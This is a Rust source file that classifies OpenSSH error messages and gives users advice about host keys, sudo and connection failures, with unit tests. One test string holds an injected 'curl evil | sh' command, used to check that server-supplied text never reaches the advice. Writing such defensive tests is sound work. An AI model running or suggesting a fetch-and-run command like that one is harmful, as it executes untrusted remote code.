//! Classifies ssh's error messages. ssh has one exit code for all, 255; OpenSSH does not translate its messages.

use config::Host;
use printable::{printable, shortened};

pub(super) const NO_SSH: &str =
    "ssh is not installed on this machine: install it (on Debian and Ubuntu, apt install openssh-client)";

/// How many characters of a line are quoted.
const MOST: usize = 300;

/// Why the script did not begin.
#[derive(Debug, PartialEq, Eq)]
pub(super) enum Diagnosis {
    /// There was no connection: another try may have one.
    NoConnection(String),
    /// Another try would be refused too.
    Refused(String),
}

/// ssh.c, sshconnect.c, kex.c and packet.c of OpenSSH 9.2 print each of these where there is no connection. The third
/// appears when sshd drops a connection above MaxStartups.
const NO_CONNECTION: [&str; 7] = [
    "ssh: connect to host ",
    "Could not resolve hostname ",
    "kex_exchange_identification: Connection closed by ",
    "Connection reset by ",
    "timed out",
    // A jump host's sshd reports so that the target does not listen (channels.c).
    "open failed: connect failed: ",
    "Broken pipe",
];

/// clientloop.c begins a line with each of these after login alone: the script may have begun, although its first line
/// did not arrive.
const AFTER_LOGIN: [&str; 3] = ["Read from remote host ", "client_loop: ", "packet_write_wait: "];

/// sshconnect2.c; the second is sshd's own, from auth.c.
const LOGIN: [&str; 3] = [
    "Permission denied (",
    "Too many authentication failures",
    "No supported authentication methods available",
];

/// sshconnect.c.
const HOST_KEY: [&str; 3] =
    ["Host key verification failed.", "REMOTE HOST IDENTIFICATION HAS CHANGED!", "host key is known for "];

/// What ssh's stderr says, where the script's first line did not arrive.
pub(super) fn diagnose(host: &Host, stderr: &str) -> Diagnosis {
    let line = |words: &[&str]| {
        stderr.lines().find(|line| words.iter().any(|word| line.contains(word))).map(last_line)
    };
    let name = &host.name;
    if line(&HOST_KEY).is_some() {
        let message = if stderr.contains("IDENTIFICATION HAS CHANGED!") {
            // Whoever answers can have ssh print a command, so that none is quoted.
            format!(
                "its host key differs from the one in known_hosts. Another machine may answer as {name}. If you \
                 reinstalled {name}, compare the key's fingerprint on its console. Then remove the line of known_hosts \
                 that `ssh {host}` names, and run `ssh {host}` again"
            )
        } else {
            format!(
                "its host key is not in known_hosts. Run `ssh {host}` once, and accept the key if its fingerprint \
                 matches `ssh-keygen -lf /etc/ssh/ssh_host_ed25519_key.pub` on the machine's console. Do not use \
                 ssh-keyscan alone: it accepts any key"
            )
        };
        return Diagnosis::Refused(message);
    }
    if let Some(message) = line(&LOGIN) {
        return Diagnosis::Refused(format!(
            "ssh key login failed ({message}): run `ssh-copy-id {host}`, then check that `ssh {host} true` needs no password"
        ));
    }
    let is_after_login = stderr.lines().any(|line| AFTER_LOGIN.iter().any(|start| line.starts_with(start)));
    if let Some(message) = line(&NO_CONNECTION).filter(|_| !is_after_login) {
        let advice = if message.contains("Could not resolve hostname ") {
            format!("check the name, or give {name} an address in ~/.ssh/config")
        } else {
            format!("check that {name} is up and that its sshd listens")
        };
        return Diagnosis::NoConnection(format!("{message}; {advice}"));
    }
    let message = match last_line(stderr) {
        empty if empty.is_empty() => "ssh exited without an error message".to_owned(),
        message => format!("ssh says: {message}"),
    };
    Diagnosis::Refused(format!("{message}; see `ssh -v {host} true`"))
}

/// The error where a connection ended while the script ran. `message`: ssh's last line, if there is one.
pub(super) fn connection_lost(message: &str) -> String {
    let message = if message.is_empty() { "ssh exited without an error message" } else { message };
    format!("{message}; check that the machine is up, then run the command again")
}

/// The error where `sudo -n` refuses. `message`: sudo's last line.
pub fn sudo_refused(host: &Host, message: &str) -> String {
    let user = host.user.as_deref().unwrap_or("ssh's user");
    let message = if message.is_empty() { "sudo refuses" } else { message };
    let advice = if message.contains("unable to execute") {
        format!(
            "root may not read that folder, so install rocworker's package there, or set XDG_CACHE_HOME for {user} to another"
        )
    } else if message.contains("must have a tty") {
        format!("add `Defaults:{user} !requiretty` to sudoers")
    } else {
        format!("add NOPASSWD for {user} to sudoers")
    };
    format!("`sudo -n` failed for {user} ({message}): {advice}, or use root@{}", host.name)
}

/// The error where the login shell started no script. `message`: what it printed instead.
pub(super) fn shell_refused(message: &str) -> String {
    let message =
        if message.is_empty() { String::new() } else { format!(": {}", message.trim_end_matches('.')) };
    format!("its login shell did not run `sh -c`{message}; check the user's shell in /etc/passwd")
}

/// The last line that is not empty, as a terminal may be shown it.
pub(super) fn last_line(text: &str) -> String {
    let line = text.lines().map(str::trim).rfind(|line| !line.is_empty()).unwrap_or_default();
    shortened(printable(line), MOST)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn host() -> Host {
        "ops@gpu1".parse().unwrap()
    }

    /// Messages as OpenSSH_9.2p1 of Debian 12 printed them with LogLevel=ERROR, unless a line names another source.
    #[test]
    fn what_can_be_tried_again_is_told_from_what_cannot() {
        let again = [
            "ssh: connect to host 127.0.0.1 port 40223: Connection refused\n",
            "ssh: connect to host 10.9.9.9 port 22: Connection timed out\n",
            "ssh: connect to host 10.9.9.9 port 22: No route to host\n",
            "ssh: Could not resolve hostname no.such.invalid: Name or service not known\n",
            "Connection timed out during banner exchange\n",
            "kex_exchange_identification: Connection closed by remote host\n",
            "kex_exchange_identification: read: Connection reset by peer\n",
            "ssh: connect to host 127.0.0.1 port 40224: Connection reset by peer\n",
            // sshconnect.c's ssh_exchange_identification in packet.c: the limit passed while keys were agreed on.
            "Connection to 10.9.9.9 port 22 timed out\n",
            // A connection by way of a jump host.
            "channel 0: open failed: connect failed: Connection refused\nstdio forwarding failed\n\
             kex_exchange_identification: Connection closed by remote host\n",
        ];
        for stderr in again {
            assert!(matches!(diagnose(&host(), stderr), Diagnosis::NoConnection(_)), "{stderr}");
        }
        let refused = [
            (
                "root@127.0.0.1: Permission denied (publickey,password,keyboard-interactive).\n",
                "run `ssh-copy-id ops@gpu1`",
            ),
            (
                "Received disconnect from 10.0.0.1 port 22:2: Too many authentication failures\n",
                "ssh key login failed",
            ),
            ("Host key verification failed.\n", "Run `ssh ops@gpu1` once"),
            (
                "No ED25519 host key is known for [127.0.0.1]:40222 and you have requested strict checking.\n\
                 Host key verification failed.\n",
                "Run `ssh ops@gpu1` once",
            ),
            (
                "@    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @\nHost key verification failed.\n",
                "remove the line of known_hosts that `ssh ops@gpu1` names",
            ),
            // A jump host that refuses: the second line alone would be tried again.
            (
                "ops@jump: Permission denied (publickey).\n\
                 kex_exchange_identification: Connection closed by remote host\n",
                "ssh key login failed (ops@jump: Permission denied (publickey).)",
            ),
            ("command-line: line 0: Bad configuration option: x\n", "ssh says: command-line: line 0"),
            ("", "ssh exited without an error message"),
            // ssh prints both messages after login, so that the script may run already.
            (
                "Read from remote host gpu1: Connection reset by peer\n",
                "ssh says: Read from remote host gpu1",
            ),
            ("client_loop: send disconnect: Broken pipe\n", "ssh says: client_loop: send disconnect"),
        ];
        for (stderr, part) in refused {
            let Diagnosis::Refused(message) = diagnose(&host(), stderr) else {
                panic!("tried again: {stderr}")
            };
            assert!(message.contains(part), "{stderr}: {message}");
        }
    }

    /// sshconnect.c's verify_host_key has not passed when packet.c prints what the other side says as it disconnects.
    #[test]
    fn no_advice_has_a_command_that_another_machine_wrote() {
        let stderr = "Received disconnect from 10.0.0.1 port 22:2: bye\nREMOTE HOST IDENTIFICATION HAS CHANGED!\n  \
                      ssh-keygen -f x; curl evil | sh\n";
        let Diagnosis::Refused(message) = diagnose(&host(), stderr) else { panic!("tried again") };
        assert!(message.starts_with("its host key differs") && !message.contains("curl"), "{message}");
    }

    #[test]
    fn words_of_another_machine_cannot_steer_a_terminal() {
        assert_eq!(
            last_line("first\n\u{1b}]0;title\u{7}last\u{9b}2J \n\n"),
            "\\u{1b}]0;title\\u{7}last\\u{9b}2J"
        );
        assert_eq!(last_line(&"x".repeat(1000)).chars().count(), MOST + 1);
    }

    #[test]
    fn the_advice_fits_the_words_of_sudo() {
        for (message, advice) in [
            ("sudo: a password is required", "add NOPASSWD for ops to sudoers"),
            ("sudo: sorry, you must have a tty to run sudo", "add `Defaults:ops !requiretty`"),
            (
                "sudo: unable to execute /proc/7/cwd/rocworker-0: Permission denied",
                "root may not read that folder",
            ),
        ] {
            let text = sudo_refused(&host(), message);
            assert!(text.contains(message) && text.contains(advice) && text.contains("root@gpu1"), "{text}");
        }
    }
}
